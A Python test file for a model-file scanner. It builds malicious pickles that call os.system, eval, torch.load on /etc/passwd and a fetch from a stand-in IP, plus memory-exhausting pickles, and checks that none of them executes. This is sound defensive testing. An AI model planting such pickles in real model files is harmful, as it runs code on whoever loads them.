"""Pickles that hold code, lie, or never end, in the zip format and in the one before it, through the command line.

What each opcode does is tested beside the interpreter; here a whole process is watched: nothing is executed, written
or looked up, whichever way the code is hidden.
"""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from tests.hostile.family import CONFIG, Answers, Case, holds, run_family

MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}."
"""The first three pickles of the format before 1.6: magic number, protocol, and what was the machine like."""

ONE = ("compare",)
SHELL = b"touch /tmp/lineage-audit-was-here"


def zipped(pickle: bytes, compression: int = zipfile.ZIP_STORED, **more: bytes) -> dict[str, bytes]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("archive/data.pkl", pickle)
        for name, data in more.items():
            archive.writestr(f"archive/{name}", data)
    return {"config.json": CONFIG, "pytorch_model.bin": buffer.getvalue()}


def legacy(pickle: bytes) -> dict[str, bytes]:
    return {"config.json": CONFIG, "pytorch_model.bin": MAGIC + pickle + b"\x80\x02]."}


def text(value: bytes) -> bytes:
    return b"X" + struct.pack("<i", len(value)) + value


def long4(count: int) -> bytes:
    return b"\x8b" + struct.pack("<i", count) + b"\xff" * (count - 1) + b"\x01"


CODE = {
    "a global and a call": b"cos\nsystem\n(" + text(SHELL) + b"tR.",
    "a global on the stack": b"\x80\x04" + text(b"posix") + text(b"system") + b"\x93" + text(SHELL) + b"\x85R.",
    "an instance": b"(" + text(SHELL) + b"ios\nsystem\n.",
    "an object": b"(cos\nsystem\n" + text(SHELL) + b"o.",
    "eval among builtins": b"cbuiltins\neval\n(" + text(b"__import__('os').system('id')") + b"tR.",
    "getattr of a harmless class": b"cbuiltins\ngetattr\n(ccollections\nOrderedDict\n" + text(b"__init__") + b"tR.",
    "a dotted name": b"\x80\x04" + text(b"collections") + text(b"OrderedDict.fromkeys.__globals__") + b"\x93.",
    "an import by pydoc": b"cpydoc\nlocate\n(" + text(b"os.system") + b"tR.",
    "torch's own loader": b"ctorch\nload\n(" + text(b"/etc/passwd") + b"tR.",
    "torch's hub": b"ctorch.hub\nload_state_dict_from_url\n(" + text(b"http://192.0.2.1/x") + b"tR.",
    "numpy's own code": b"cnumpy.testing._private.utils\nrunstring\n(" + text(b"import os") + b"}tR.",
    "an extension code": b"\x82\x01.",
    "a state that is set": b"ccollections\nOrderedDict\n)R" + text(b"__reduce__") + b"b.",
    "a call in a list, a dict and a tuple": b"](}" + text(b"k") + b"cos\nsystem\n(" + text(SHELL) + b"tRs\x85a.",
    "a call behind a good dict": b"}0cos\nsystem\n(" + text(SHELL) + b"tR.",
    "a call after the end": b"}.cos\nsystem\n(" + text(SHELL) + b"tR.",
    "an out-of-band buffer": b"\x80\x05\x97.",
    "a persistent id of text": b"Pcos\n.",
}
"""Pickles that would execute something, or look something up, if they were unpickled."""

ENDLESS = {
    "a number of megabytes as a key": b"\x80\x02}" + long4(8_000_000) + b"q\x000(" + b"h\x00N" * 500_000 + b"u.",
    "long equal keys": b"\x80\x04}" + b"".join(
        text(b"a" * 8_000_000) + b"q" + bytes([i]) + b"Ns" for i in range(2)) + b"(" + b"h\x01N" * 500_000 + b"u.",
    "lists in lists": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
    "nothing but marks": b"\x80\x02" + b"(" * 1_000_000 + b".",
}  # fmt: skip


def compressed() -> dict[str, bytes]:
    return zipped(b"\x80\x02}.", zipfile.ZIP_DEFLATED, **{"data/0": bytes(50_000_000)})


CASES = {
    **{f"{name}, zip": Case(zipped(code), says="pytorch_model.bin") for name, code in CODE.items()},
    **{f"{name}, legacy": Case(legacy(code), says="pytorch_model.bin", asked=ONE) for name, code in CODE.items()},
    **{f"{name}, zip": Case(zipped(code), asked=ONE) for name, code in ENDLESS.items()},
    "a pickle that is compressed": Case(compressed(), says="compressed"),
    "a zip inside the zip": Case(zipped(b"PK\x03\x04"), says="damaged"),
}


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Answers]:
    return run_family(tmp_path_factory.mktemp("pickles"), CASES)


@pytest.mark.parametrize("name", CASES)
def test_nothing_is_executed_and_one_line_says_so(name: str, ran: dict[str, Answers]) -> None:
    holds(CASES[name], ran[name])
